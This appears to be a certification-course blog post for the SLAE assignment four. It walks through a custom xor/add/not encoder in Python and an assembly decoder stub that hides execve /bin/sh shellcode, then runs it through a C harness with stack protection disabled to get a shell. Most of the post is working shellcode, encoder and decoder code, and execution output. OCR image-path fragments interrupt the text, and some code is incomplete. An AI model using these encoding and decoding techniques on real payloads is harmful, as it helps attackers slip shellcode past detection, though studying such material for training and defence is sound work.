• Create a custom encoding scheme like the “Insertion Encoder” we showed you
  • PoC with using execve-‐stack as the shellcode to encode with your schema and execute


So for our 4th assignment we need to create a custom encoder then decoder stub in assembly to decrypt the encoded payload and execute our shell code. For this I will be using a XANAX encoding scheme.

  • Xor
  • add
  • not
  • add
  • xor

First we will write an encoder in python followed by the decoder in assembly.


# Python Xanax Encoder
# SLAE Assignment 4

# Execve Shellcode
shellcode = ("\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x89\xe2\x53\x89\xe1\xb0\x0b\xcd\x80")
encoded = ""
encoded2 = ""

# Variablesxor1 = 0xaa
add1 = 0x01
add2 = 0x08
xor2 = 3

print('Encoded shellcode ...')

for x in bytearray(shellcode):
    # XOR
    x = x^xor1
    # Add
    x = x + add1
    # Not
    x = ~x
    x = x & 0xff # Convert to positive
    # Add2
    x = x + add2
    # XOR2
    x = x^xor2
    encoded += '\\x'
    encoded += '%02x' %x
    encoded2 += '0x'
    encoded2 += '%02x,' %x

print('Len: %d' % len(bytearray(shellcode)))

The one small gotcha within the code was the not function which creates a negative value, hence the the additional line to ensure a positive result here. Now we have our encodedshellcode we move on to creating a decoder stub in assembly to decrypt and run the code after running our python encoder to get our encoded shellcode.

suls@ubuntu:~/myslae/SLAE/Assignment-4$ python
Encoded shellcode ...
Len: 25


; Filename: xanax-decoder.nasm
; Website:
; Purpose: xanx decoder stub in assembly

global _start

section .text
    jmp short call_shellcodepop esi ; pop shellcode address to esi
    xor ecx, ecx ; Clear ecx
    mov cl, 25 ; store counter of number of bytes
    ; Xanax Decoder (NB:reverse order of our python encoder)
    xor byte [esi], 0x35
    sub byte [esi], 0x08
    not byte [esi]
    sub byte [esi], 0x01
    xor byte [esi], 0xaa
    ; Increment counter
    inc esi
    ;loop if not done
    loop decode; Otherwise call our decoded shellcode
    jmp short EncodedShellcode


    call decoder
    EncodedShellcode: db 0x5e,0xa9,0x39,0x71,0xb4,0xb4,0x18,0x71,0x71,0xb4,0x0b,0x76,0x77,0xd6,0x88,0x39,0xd6,0x8b,0x38,0xd6,0x8e,0xd9,0x50,0xaa,0xe9

The assembly is pretty straight forward, we used a jump call pop to retrieve the location of our shellcode then a simple loop to run the decoding function. The only small and obvious issue I ran into here was that you need to subtract rather than add the two values we added in our encoding routine. We then assemble and link the assembly code.

suls@ubuntu:~/myslae/SLAE/Assignment-4$ ./ xanax-decoder
[+] Assembling with Nasm ...
[+] Linking ...
[+] Done!

Extract the shellcode for the decoder stub and our encoded shellcode:suls@ubuntu:~/myslae/SLAE/Assignment-4$ objdump -d ./xanax-decoder|grep '[0-9a-f]:'|grep -v 'file'|cut -f2 -d:|cut -f1-6 -d' '|tr -s ' '|tr '\t' ' '|sed 's/ $//g'|sed 's/ /\\x/g'|paste -d '' -s |sed 's/^/"/'|sed 's/$/"/g'

Create a test program in C:


unsigned char code[] = \

    printf("Shellcode Length:  %d\n", strlen(code));
    int (*ret)() = (int(*)())code;

Compile and run the code to prove ourdecoder stub correctly decodes our encoded shellcode and executes the decoded execve-‐stack shellcode.

suls@ubuntu:~/myslae/SLAE/Assignment-4$ gcc -fno-stack-protector -z execstack -oxanax-decoder-test xanax-decoder-test.c
xanax-decoder-test.c:8:1: warning: return type defaults to ‘int’ [-Wimplicit-int]
suls@ubuntu:~/myslae/SLAE/Assignment-4$ ./xanax-decoder-test Shellcode Length:  56
$ id
uid=1000(suls) gid=1000(suls) groups=1000(suls),4(adm),24(cdrom),27(sudo),30(dip),46(plugdev),113(lpadmin),128(sambashare)
$ exit

This completes assignment four, source code is available on GitHub

This blog post has been created for completing the requirements of the SecurityTube Linux Assembly Expert certification:
Student ID: SLAE-1436Leave a Reply

Your emailaddress will not be published. Required fields are marked *